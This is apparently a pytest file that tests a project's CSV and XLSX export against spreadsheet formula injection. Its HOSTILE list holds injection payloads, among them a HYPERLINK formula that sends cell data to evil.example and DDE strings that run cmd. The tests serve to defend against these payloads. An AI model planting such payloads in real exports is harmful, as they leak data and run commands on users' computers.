"""CSV and XLSX: typed, and harmless whatever the names are."""

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from python_calamine import CalamineWorkbook

from workbench.output.cells import Cell, Column, Table, harmless
from workbench.output.csv import csv_bytes
from workbench.output.xlsx import xlsx_bytes

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1",
    "＝1＋1",
    "＋1＋1",
    "－1－1",
    "＠x",
    "  =1+1",
    "+81-6-0000-0000",
)
PLAIN = ("-5", "+3", "1,234.50", "-12%", "阪神メディカル", "O'Hara & Söhne", "a=b", "")


def table(*values: Cell) -> Table:
    return Table("Customers", (Column("Name"), Column("=evil()")), tuple((value, 1) for value in values))


def read_csv(*values: Cell) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_bytes(table(*values)).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_begins_like_a_formula(text: str) -> None:
    rows = read_csv(text)
    assert rows[1][0].startswith("'") and rows[0][1].startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_a_csv_opens_in_a_spreadsheet_with_its_values() -> None:
    assert csv_bytes(table("x")).startswith(b"\xef\xbb\xbf")
    rows = read_csv(date(2026, 11, 24), Decimal("1280.5000"), Decimal("0"), 12, 1.5, None, True, "a\x07b\0c")
    assert [row[0] for row in rows[1:]] == ["2026-11-24", "1280.5", "0", "12", "1.5", "", "1", "abc"]


def test_a_workbook_keeps_text_as_text_and_has_no_formula() -> None:
    content = xlsx_bytes(table(*HOSTILE, "http://evil.example", "123", "nul\0", "\ud800x", "long" * 20_000))
    book = zipfile.ZipFile(io.BytesIO(content))
    assert not any(re.search(rb"<f[ >]|<hyperlink", book.read(name)) for name in book.namelist())
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert rows[1][0] == HOSTILE[0] and rows[13][0] == "http://evil.example"
    assert rows[14][0] == "123" and rows[15][0] == "nul" and rows[16][0] == "x"


def test_a_workbook_types_its_cells() -> None:
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(xlsx_bytes(table(date(2026, 11, 24), Decimal("1280.5"), 3))))
        .get_sheet_by_index(0)
        .to_python()
    )
    assert rows[1][0] == date(2026, 11, 24) and rows[2][0] == 1280.5 and rows[3][0] == 3
